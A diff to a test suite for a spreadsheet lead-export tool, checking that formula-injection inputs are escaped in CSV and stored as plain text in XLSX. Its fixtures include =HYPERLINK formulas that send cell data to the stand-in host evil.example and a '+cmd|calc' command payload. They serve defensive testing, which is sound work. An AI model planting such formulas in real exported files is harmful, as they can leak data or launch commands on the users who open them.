@@ -21,6 +21,9 @@ describe('escapeCellForExport', () => {
     ['-2', '-2'],
     ['1234,56', '1234,56'],
     ['(11) 98765-4321', '(11) 98765-4321'],
+    [' =HYPERLINK("http://evil.example")', `' =HYPERLINK("http://evil.example")`],
+    ['   @SUM(1+1)', "'   @SUM(1+1)"],
+    [' Maria', ' Maria'],
     ['Maria', 'Maria']
   ])('%j → %j', (text, escaped) => {
     expect(escapeCellForExport(text)).toBe(escaped)
@@ -31,20 +34,22 @@ describe('export of broken/formula-injection.csv', () => {
   const table = readFixture('formula-injection.csv', new URL('broken/', LEADS_DIR))
   const result = cleanLeads(table)
 
-  it('XLSX: every cell text, phones as +55…, injection escaped, status and motivo', () => {
+  it('XLSX: every cell text exactly as read (no apostrophe), phones as +55…, status and motivo', () => {
     const bytes = exportCleanResultXlsx(table, result)
     const sheet = XLSX.read(bytes).Sheets['Leads'] as XLSX.WorkSheet
     const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true })
     expect(rows[0]).toEqual(['Nome', 'Telefone', 'Empresa', 'Telefone (E.164)', 'status', 'motivo'])
     expect(rows[1]).toEqual([
-      `'=HYPERLINK("http://evil.example/?x="&A1;"clique")`,
+      `=HYPERLINK("http://evil.example/?x="&A1;"clique")`,
       '(11) 98765-4321',
-      "'+cmd|calc",
+      '+cmd|calc',
       '+5511987654321',
       'válido'
     ])
-    expect(rows[2]?.[0]).toBe("'@SUM(1+1)")
-    expect(rows[2]?.[2]).toBe("'-2+3")
+    expect(rows[2]?.[0]).toBe('@SUM(1+1)')
+    expect(rows[2]?.[2]).toBe('-2+3')
+    // A text cell, not a formula: nothing in the sheet can run.
+    expect(Object.values(sheet).some((cell) => typeof cell === 'object' && 'f' in cell)).toBe(false)
     expect(sheet['D2']).toMatchObject({ t: 's', v: '+5511987654321' })
     expect(Object.keys(sheet).filter((k) => !k.startsWith('!') && sheet[k]?.t !== 's')).toEqual([])
   })
